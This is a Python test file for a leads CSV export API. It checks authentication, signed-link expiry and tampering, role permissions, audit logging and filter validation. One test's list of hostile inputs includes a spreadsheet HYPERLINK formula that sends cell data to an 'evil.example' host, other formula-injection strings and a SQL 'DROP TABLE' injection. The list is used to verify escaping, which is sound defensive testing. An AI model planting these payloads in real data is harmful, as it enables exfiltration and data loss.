"""GET /export/leads.csv, with a bearer token and by a signed link."""

import csv
import io
import json
import secrets
from datetime import UTC, datetime
from typing import Any
from urllib.parse import urlsplit

import httpx
import pytest
from itsdangerous import TimestampSigner
from sqlalchemy import text

from app.common.domain import ClientKind, Role
from app.common.links import TTL_S
from app.common.work import Doors
from app.leads.domain.sheet import PORTUGUESE
from app.settings import Settings
from tests.factories.accounts import Person, add_member, audited, sign_in, sign_up
from tests.factories.conversations import make_lead
from tests.fixtures.processes import eventually

PATH = "/export/leads.csv"
LINK = "query ($filter: LeadFilter) { leadsExportUrl(filter: $filter) }"
MAKE_TAG = "mutation ($name: String!) { createTag(input: {name: $name}) { tag { id } } }"
MANY = text(
    """
    INSERT INTO lead (workspace_id, name, stage_id, rank, source, created_at, deleted_at, metadata)
    SELECT :workspace_id, 'L' || n, (SELECT min(id::text)::uuid FROM stage WHERE workspace_id = :workspace_id),
        'r' || n, 'API', timestamptz '2040-01-01' + interval '1 s' * (n / 700),
        CASE WHEN :deleted THEN timestamptz '2040-01-01' + interval '1 s' * (n / 700) END,
        jsonb_build_object('x', repeat('x', :width))
    FROM generate_series(1, :count) AS n
    """
)


async def insert_leads(
    doors: Doors, person: Person, count: int, *, deleted: bool = False, width: int = 1
) -> None:
    """Many of one moment, so that pages end among equals."""
    given = {"workspace_id": person.workspace_id, "count": count, "deleted": deleted, "width": width}
    async with doors.open_work(person.workspace_id) as work:
        await work.execute(MANY, given)


def bearer(person: Person | str) -> dict[str, str]:
    return {"Authorization": f"Bearer {person if isinstance(person, str) else person.token}"}


async def ask(person: Person, **query: str) -> httpx.Response:
    return await person.http.get(PATH, params=query, headers=bearer(person))


async def exported(person: Person, filter: object = None) -> list[dict[str, str]]:
    """The lines by the names of their columns."""
    answer = await ask(person, **({} if filter is None else {"filter": json.dumps(filter)}))
    assert answer.status_code == 200, answer.text
    return lines(answer)


def lines(answer: httpx.Response) -> list[dict[str, str]]:
    sheet = answer.content.decode("utf-8-sig")
    return list(csv.DictReader(io.StringIO(sheet, newline=""), strict=True))


async def link_of(person: Person, **filter: object) -> str:
    """Path and query: the address in it is none of this test's server."""
    url = urlsplit((await person.run(LINK, {"filter": filter or None}))["leadsExportUrl"])
    return f"{url.path}?{url.query}"


def check_problem(answer: httpx.Response, status: int, code: str) -> str:
    assert answer.headers["content-type"] == "application/problem+json"
    assert (answer.status_code, answer.json()["code"]) == (status, code)
    return str(answer.json()["detail"])


async def test_every_lead_is_a_line_with_all_that_is_known(http: httpx.AsyncClient, doors: Doors) -> None:
    ana = await sign_up(http, locale="en")
    tags = [(await ana.run(MAKE_TAG, {"name": name}))["createTag"]["tag"]["id"] for name in ("VIP", "Cold")]
    id = await make_lead(
        ana,
        name="Bia",
        email="bia@example.com",
        phone="+5511987654321",
        company="Acme",
        title="CEO",
        linkedin="https://www.linkedin.com/company/acme",
        instagram="bia.x",
        ownerId=str(ana.user_id),
        tagIds=tags,
        metadata={"city": "São Paulo", "n": -1},
    )
    answer = await ask(ana)
    assert answer.content.startswith(b"\xef\xbb\xbfid,name,email,")
    assert answer.content.endswith(b"\r\n")
    (line,) = lines(answer)
    moments = [line.pop(name) for name in ("created_at", "updated_at")]
    assert all(datetime.fromisoformat(one).tzinfo == UTC for one in moments)
    assert json.loads(line.pop("metadata")) == {"city": "São Paulo", "n": -1}
    assert line == {
        "id": str(id),
        "name": "Bia",
        "email": "bia@example.com",
        "phone": "+5511987654321",
        "company": "Acme",
        "title": "CEO",
        "linkedin": "https://www.linkedin.com/company/acme",
        "instagram": "https://www.instagram.com/bia.x",
        "facebook": "",
        "other_identities": "",
        "stage": "New",
        "owner": "Ana",
        "owner_email": ana.email,
        "source": "MANUAL",
        "engagement": "NEW",
        "score": "0",
        "tags": "Cold; VIP",
        "last_touch_at": "",
    }


async def test_its_headers_make_it_a_file_of_nobody_elses(ana: Person) -> None:
    began, answer, ended = datetime.now(UTC), await ask(ana), datetime.now(UTC)
    assert answer.headers["content-type"] == "text/csv; charset=utf-8"
    assert answer.headers["content-disposition"] in {
        f'attachment; filename="leads-{at:%Y-%m-%d}.csv"' for at in (began, ended)
    }
    assert answer.headers["cache-control"] == "no-store"
    assert answer.headers["x-content-type-options"] == "nosniff"
    assert answer.headers["transfer-encoding"] == "chunked"
    assert answer.content.decode("utf-8-sig") == ",".join(PORTUGUESE) + "\r\n"
    head = await ana.http.head(PATH, headers=bearer(ana))
    assert (head.status_code, head.headers["content-type"]) == (200, answer.headers["content-type"])


HOSTILE = (
    '=HYPERLINK("http://evil.example/?x="&A1,"ok")',
    "+1+1",
    "-2+3",
    "@SUM(A1)",
    "\uff1d1+1",
    'José "o Zé", Ltda',
    "linha 1\nlinha 2\r\nlinha 3",
    "'; DROP TABLE lead; --",
    "👩\u200d👩\u200d👧 emoji",
    "\u202etxt.exe \u05e9\u05dc\u05d5\u05dd",
    "a;=1+1",
    ",,,",
    '"',
)


async def test_hostile_texts_run_nowhere_and_stay_in_their_cells(http: httpx.AsyncClient) -> None:
    ana = await sign_up(http, locale="en")
    for name in HOSTILE:
        await make_lead(ana, name=name, company=name, title=name, metadata={name: name})
    found = list(reversed(await exported(ana)))
    assert len(found) == len(HOSTILE)
    for line, name in zip(found, HOSTILE, strict=True):
        assert None not in line
        assert line["name"] == line["company"] == line["title"]
        assert line["name"].replace("'", "") == name.replace("'", "")
        assert line["name"][0] not in "=+-@\uff1d"
        assert ";=" not in line["name"]
        assert len(json.loads(line["metadata"])) == 1


async def test_the_filter_is_the_lists_and_its_mistakes_are_named(ana: Person, eve: Person) -> None:
    await make_lead(ana, name="Bia Souza")
    await make_lead(ana, name="Carla", email=None, phone="+5511987654321")
    theirs = await make_lead(eve, name="Dora Souza")
    tag = (await eve.run(MAKE_TAG, {"name": "T"}))["createTag"]["tag"]["id"]
    name = PORTUGUESE[1]

    async def names(**filter: object) -> list[str]:
        return [line[name] for line in await exported(ana, filter)]

    assert await names() == ["Carla", "Bia Souza"]
    assert await names(hasEmail=True) == ["Bia Souza"]
    assert await names(hasEmail=False, sources=["MANUAL"]) == ["Carla"]
    assert await names(search="souza") == ["Bia Souza"]
    assert await names(createdAfter="2040-01-01T00:00:00Z") == []
    assert await names(tagIds=[tag]) == await names(ownerIds=[str(eve.user_id)]) == []
    assert await names(tagIds=[str(theirs), "nonsense"]) == []

    async def wrong(filter: str) -> str:
        return check_problem(await ask(ana, filter=filter), 400, "BAD_REQUEST")

    for filter, place in (
        ("", "filter"),
        ("{", "filter"),
        ("null", "filter"),
        ("[]", "filter"),
        ('"x"', "filter"),
        ('{"nope": 1}', "nope"),
        ('{"tagIds": [{}]}', "tagIds.0"),
        ('{"sources": ["SKY"]}', "sources.0"),
        ('{"minScore": "x"}', "minScore"),
        ('{"createdAfter": "yesterday"}', "createdAfter"),
        ('{"search": "x"}', "filter.search"),
        (json.dumps({"search": "a\0b"}), "filter.search"),
        (json.dumps({"tagIds": ["x"] * 101}), "filter"),
        (json.dumps({"tagIds": ["x" * 20_000]}), "filter"),
        ("[" * 5_000, "filter"),
    ):
        assert place in await wrong(filter), filter
    for query in ({"sort": "NAME"}, {"Filter": "{}"}):
        check_problem(await ask(ana, **query), 400, "BAD_REQUEST")
    twice = await ana.http.get(f"{PATH}?filter={{}}&filter={{}}", headers=bearer(ana))
    check_problem(twice, 400, "BAD_REQUEST")


async def test_who_may_have_it(ana: Person, doors: Doors) -> None:
    for headers in ({}, bearer("nonsense"), {"Authorization": "Basic eA=="}):
        check_problem(await ana.http.get(PATH, headers=headers), 401, "UNAUTHENTICATED")
    viewer = await add_member(doors, ana, role=Role.VIEWER)
    check_problem(await ask(viewer), 403, "FORBIDDEN")
    assert await viewer.refused(LINK) == "FORBIDDEN"
    extension = await add_member(doors, ana, role=Role.MEMBER, client=ClientKind.EXTENSION)
    check_problem(await ask(extension), 403, "FORBIDDEN")
    member = await add_member(doors, ana, role=Role.MEMBER)
    assert (await ask(member)).status_code == 200
    make = 'mutation { createApiKey(input: {name: "x", role: MEMBER}) { secret } }'
    secret = (await ana.run(make))["createApiKey"]["secret"]
    assert (await ana.http.get(PATH, headers=bearer(secret))).status_code == 200


async def test_an_export_stands_in_the_audit_log_without_what_it_was_of(ana: Person, doors: Doors) -> None:
    await make_lead(ana, name="Bia Souza")
    await exported(ana, {"search": "souza", "hasEmail": True})
    (await ana.http.get(await link_of(ana))).raise_for_status()
    one, other = [row for row in await audited(doors, ana.workspace_id) if row.action == "leads.exported"]
    assert (one.actor_id, one.after) == (ana.user_id, {"leads": 1, "conditions": 2})
    assert (other.actor_id, other.after) == (ana.user_id, {"leads": 1, "conditions": 0})


@pytest.mark.parametrize("deleted", [False, True], ids=["live", "deleted"])
async def test_more_than_a_page_of_one_moment_comes_whole(ana: Person, doors: Doors, deleted: bool) -> None:
    await insert_leads(doors, ana, 2_500, deleted=deleted)
    found = await exported(ana, {"deleted": True} if deleted else None)
    assert sorted(int(line[PORTUGUESE[1]][1:]) for line in found) == list(range(1, 2_501))
    assert await exported(ana, None if deleted else {"deleted": True}) == []


# ── links ─────────────────────────────────────────────────────────────────────────────────────────────────────────────
async def test_a_link_needs_no_token_and_holds_its_filter(ana: Person, eve: Person) -> None:
    tag = (await ana.run(MAKE_TAG, {"name": "T"}))["createTag"]["tag"]["id"]
    id = await make_lead(ana, name="Bia", tagIds=[tag])
    await make_lead(ana, name="Carla")
    filter = {"tagIds": [tag], "createdAfter": "2020-01-01T00:00:00Z", "search": "bi", "hasEmail": True}
    answer = await ana.http.get(await link_of(ana, **filter))
    assert [line["id"] for line in lines(answer)] == [str(id)]
    assert len(lines(await ana.http.get(await link_of(ana)))) == 2
    assert lines(await ana.http.get(await link_of(eve), headers=bearer(ana))) == []
    assert await ana.refused(LINK, {"filter": {"tagIds": ["x"] * 101}}) == "BAD_USER_INPUT"
    long = await link_of(
        ana, **{name: [secrets.token_hex(18)] * 100 for name in ("tagIds", "stageIds", "ownerIds")}
    )
    assert (await ana.http.get(long)).status_code == 200


async def test_a_link_that_is_not_whole_or_too_old_is_refused(
    ana: Person, settings: Settings, monkeypatch: pytest.MonkeyPatch
) -> None:
    path = await link_of(ana)
    token = path.partition("link=")[2]
    for bad in (
        token[:-1],
        token[1:],
        token + "x",
        "",
        "x",
        "é" * 10,
        "x" * 40_000,
        token.replace(".", "", 1),
    ):
        check_problem(await ana.http.get(PATH, params={"link": bad}), 404, "NOT_FOUND")
    check_problem(await ana.http.get(f"{path}&filter={{}}"), 404, "NOT_FOUND")
    assert (await ana.http.get(path)).status_code == 200
    upload = await ana.http.get(f"/files/{token}")
    assert upload.status_code == 404  # a link of one purpose is none of another


async def test_an_old_link_is_gone(
    ana: Person, app: Any, settings: Settings, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Made by an API in this process, whose clock can be put back."""
    now = TimestampSigner.get_timestamp
    async with httpx.AsyncClient(transport=httpx.ASGITransport(app=app), base_url="http://localhost") as here:
        for age_s, status in ((TTL_S + 2, 410), (TTL_S - 20, 200)):
            with monkeypatch.context() as patch:
                patch.setattr(TimestampSigner, "get_timestamp", lambda self, age_s=age_s: now(self) - age_s)
                answer = await here.post("/graphql", json={"query": LINK}, headers=bearer(ana))
            url = urlsplit(answer.json()["data"]["leadsExportUrl"])
            assert (await ana.http.get(f"{url.path}?{url.query}")).status_code == status


async def test_a_link_ends_with_the_right_of_whoever_asked_for_it(ana: Person, doors: Doors) -> None:
    async def until_refused(path: str) -> None:
        async def is_refused() -> bool:
            return (await ana.http.get(path)).status_code == 403

        await eventually(is_refused, what="the refusal")

    removed, demoted, gone = [
        await add_member(doors, ana, role=Role.MEMBER) for _ in ("removed", "demoted", "signed out")
    ]
    paths = [await link_of(person) for person in (removed, demoted, gone)]
    for path in paths:
        assert (await ana.http.get(path)).status_code == 200
    by_id = {"id": str(removed.user_id)}
    await ana.run("mutation ($id: ID!) { removeMember(input: {userId: $id}) { errors { code } } }", by_id)
    check_problem(await ana.http.get(paths[0]), 403, "FORBIDDEN")
    by_id = {"id": str(demoted.user_id)}
    change = (
        "mutation ($id: ID!) { changeMemberRole(input: {userId: $id, role: VIEWER}) { errors { code } } }"
    )
    await ana.run(change, by_id)
    check_problem(await ana.http.get(paths[1]), 403, "FORBIDDEN")
    end = "mutation ($t: String!) { signOut(input: {refreshToken: $t}) { ok } }"
    await gone.run(end, {"t": gone.refresh_token})
    await until_refused(paths[2])
    again = await sign_in(gone, workspace_id=ana.workspace_id)
    assert (await ana.http.get(await link_of(again))).status_code == 200
